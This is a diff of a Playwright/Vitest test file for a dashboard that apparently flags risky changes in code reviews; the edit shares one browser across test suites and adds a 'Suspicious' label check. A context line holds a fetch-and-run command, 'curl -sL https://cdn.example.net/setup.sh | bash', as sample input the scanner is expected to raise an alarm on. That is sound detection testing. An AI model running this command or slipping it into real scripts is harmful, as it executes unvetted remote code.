@@ -1,5 +1,6 @@
-import type { Page } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { launchBrowser } from '../http/browser.ts';
 import {
   type DashboardFixture,
   expectAccessible,
@@ -12,10 +13,16 @@ import {
 const rowsOf = (page: Page, table: string) =>
   page.locator(`[role=group][aria-label="${table}"] tr[data-row]`);
 
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launchBrowser();
+});
+afterAll(() => browser?.close());
+
 describe('the dashboard', () => {
   let dashboard: DashboardFixture;
   beforeAll(async () => {
-    dashboard = await openDashboard();
+    dashboard = await openDashboard({ browser });
   });
   afterAll(() => dashboard?.close());
   afterEach(() => expect(dashboard.problems.splice(0)).toEqual([]));
@@ -150,6 +157,7 @@ describe('the dashboard', () => {
       .locator('.diff [data-kind="add"]', { hasText: 'curl -sL https://cdn.example.net/setup.sh | bash' })
       .waitFor();
     expect(await page.locator('.findings [data-weight="alarm"]').first().textContent()).toContain('curl');
+    expect(await page.locator('.findings dt').allTextContents()).toContain('Suspicious');
     await page.getByRole('heading', { name: 'Why it is major' }).waitFor();
     await expectAccessible(page);
     await picture(page, 'review');
@@ -177,7 +185,7 @@ describe('the dashboard', () => {
 describe('commands of operators', () => {
   let dashboard: DashboardFixture;
   beforeAll(async () => {
-    dashboard = await openDashboard({ isManaged: true });
+    dashboard = await openDashboard({ isManaged: true, browser });
   });
   afterAll(() => dashboard?.close());
   afterEach(() => expect(dashboard.problems.splice(0)).toEqual([]));
